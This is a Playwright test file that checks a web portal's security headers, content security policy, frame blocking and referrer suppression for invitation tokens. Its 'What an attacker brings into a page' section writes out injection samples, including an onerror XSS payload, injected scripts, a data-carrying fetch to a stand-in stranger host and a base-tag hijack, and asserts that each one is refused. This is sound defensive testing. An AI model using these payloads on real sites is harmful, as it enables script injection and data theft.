import { oneCountry } from "./support/countries.ts";
import { backendOrigin, portalHost, ports } from "./support/ports.ts";
import { expectPortalAddress, signInAddress } from "./support/provider.ts";
import { expect, test } from "./support/world.ts";

const stranger = "https://stranger.example";

const policy = [
  "default-src 'none'",
  "script-src 'self' https://www.googletagmanager.com",
  "style-src 'self'",
  "font-src 'self'",
  "img-src 'self' data: https:",
  `connect-src 'self' http://localhost:${ports.registration} http://localhost:${ports.identity} https://www.googletagmanager.com https://*.google-analytics.com https://*.analytics.google.com`,
  "object-src 'none'",
  "base-uri 'none'",
  "form-action 'none'",
  "frame-ancestors 'none'",
  "require-trusted-types-for 'script'",
  "trusted-types taglys-tag-manager goog#html 'allow-duplicates'",
].join("; ");

test.describe("The portal's host", oneCountry, () => {
  for (const { address, opener } of [
    { address: "/", opener: "same-origin" },
    { address: "/project/project-1", opener: "same-origin" },
    { address: "/campaign-asset-preview/my_taglys_banner", opener: "unsafe-none" },
  ]) {
    test(`sends the headers that protect ${address}`, async ({ page }) => {
      const document = page.waitForResponse((response) => response.url().endsWith(address));
      await page.goto(address, { waitUntil: "commit" });
      expect((await document).headers()).toMatchObject({
        "content-security-policy": policy,
        "strict-transport-security": "max-age=63072000",
        "x-content-type-options": "nosniff",
        "referrer-policy": "no-referrer",
        "permissions-policy": expect.stringContaining("camera=(), "),
        "cross-origin-opener-policy": opener,
        "x-frame-options": "DENY",
      });
    });
  }

  test("lets nothing run that a service answers with", async ({ request }) => {
    const answer = await request.get(`http://127.0.0.1:${ports.portal}/api/campaigns`, {
      headers: { host: portalHost("DE") },
    });
    expect(answer.status()).toBe(200);
    expect(answer.headers()).toMatchObject({
      "content-security-policy":
        "script-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'",
      "x-content-type-options": "nosniff",
      "referrer-policy": "no-referrer",
    });
  });

  test("keeps other sites from showing the portal in a frame", async ({ page, problems }) => {
    problems.allow(/^console: .*frame-ancestors 'none'/);
    const refused = page.waitForEvent("requestfailed");
    // Another origin on this machine: Chromium keeps strangers on the net away from local ones by itself.
    await page.goto(`${backendOrigin}/api/campaigns`);
    await page.evaluate(
      (address) => {
        const frame = document.createElement("iframe");
        frame.src = address;
        document.body.append(frame);
      },
      `http://${portalHost("DE")}/`,
    );
    expect((await refused).url()).toBe(`http://${portalHost("DE")}/`);
    expect((await refused).failure()?.errorText).toBe("net::ERR_BLOCKED_BY_RESPONSE");
  });
});

test.describe("What an attacker brings into a page", oneCountry, () => {
  const attacks: Record<string, { directive: string; run: () => unknown }> = {
    "markup as a text": {
      directive: "require-trusted-types-for",
      run: () => {
        document.body.innerHTML = "<img src='' onerror='document.title=1'>";
      },
    },
    "a script of its own": {
      directive: "require-trusted-types-for",
      run: () => {
        const script = document.createElement("script");
        script.textContent = "document.title = 1";
        document.head.append(script);
      },
    },
    "a stranger's script": {
      directive: "require-trusted-types-for",
      run: () => {
        const script = document.createElement("script");
        script.src = "https://stranger.example/script.js";
        document.head.append(script);
      },
    },
    "a way around the types": {
      directive: "trusted-types",
      run: () => window.trustedTypes?.createPolicy("default", { createScriptURL: (address) => address }),
    },
    "a style of its own": {
      directive: "style-src-elem",
      run: () => {
        const style = document.createElement("style");
        style.textContent = "body { display: none }";
        document.head.append(style);
      },
    },
    "a call that carries data away": {
      directive: "connect-src",
      run: () => fetch("https://stranger.example/"),
    },
    "a stranger's page in a frame": {
      directive: "frame-src",
      run: () => {
        const frame = document.createElement("iframe");
        frame.src = "https://stranger.example/";
        document.body.append(frame);
      },
    },
    "a form that posts elsewhere": {
      directive: "form-action",
      run: () => {
        const form = document.createElement("form");
        form.action = "https://stranger.example/";
        document.body.append(form);
        form.submit();
      },
    },
    "another base for addresses": {
      directive: "base-uri",
      run: () => {
        const base = document.createElement("base");
        base.href = "https://stranger.example/";
        document.head.append(base);
      },
    },
  };

  for (const [name, { directive, run }] of Object.entries(attacks)) {
    test(`is refused: ${name}`, async ({ page, problems, t }) => {
      const reached: string[] = [];
      await page.route(`${stranger}/**`, (route) => {
        reached.push(route.request().url());
        return route.abort();
      });
      await page.goto("/");
      await expect(page.getByRole("heading", { level: 1 })).toHaveText(t("page.introduction.title"));
      problems.expect(new RegExp(`^policy: ${directive} refused`));
      problems.allow(/^console: /);
      await page.evaluate(run).catch(() => {});
      await expect.poll(() => problems.missing()).toEqual([]);
      expect(reached).toEqual([]);
    });
  }

  test("does not run where it came with the document", async ({ page, problems, t }) => {
    await page.route("/", async (route) => {
      // Node does not resolve the country's name.
      const headers = { ...(await route.request().allHeaders()), host: portalHost("DE") };
      const answer = await route.fetch({ url: `http://127.0.0.1:${ports.portal}/`, headers });
      const html = await answer.text();
      const body = html.replace(
        "<body>",
        `<body onload="spoilt = 1"><script>spoilt = 2</script><script src="${stranger}/"></script>`,
      );
      await route.fulfill({ response: answer, body });
    });
    problems.expect(
      /^policy: script-src-attr refused inline/,
      /^policy: script-src-elem refused inline/,
      /^policy: script-src-elem refused https:\/\/stranger\.example\//,
    );
    problems.allow(/^console: /);
    await page.goto("/");
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(t("page.introduction.title"));
    expect(await page.evaluate(() => Reflect.has(window, "spoilt"))).toBe(false);
  });
});

test.describe("The token of an invitation", oneCountry, () => {
  test("is told to nobody but the API: no call and no visit says where it came from", async ({
    page,
    context,
    t,
  }) => {
    const invitation = "/register/project-1/welcome-home";
    const referrers: Promise<string | null>[] = [];
    const elsewhere: string[] = [];
    context.on("request", (request) => {
      referrers.push(request.headerValue("referer"));
      if (!request.url().startsWith(`http://${portalHost("DE")}/`)) elsewhere.push(request.url());
    });
    await page.goto(invitation);
    await expectPortalAddress(page, invitation);
    await page.getByRole("button", { name: t("page.associate.signIn") }).click();
    await page.waitForURL(signInAddress);
    expect(await page.evaluate(() => document.referrer)).toBe("");
    expect((await Promise.all(referrers)).filter((referrer) => referrer !== null)).toEqual([]);
    expect(elsewhere.length).toBeGreaterThan(0);
    expect(elsewhere.filter((address) => address.includes("welcome-home"))).toEqual([]);
  });
});
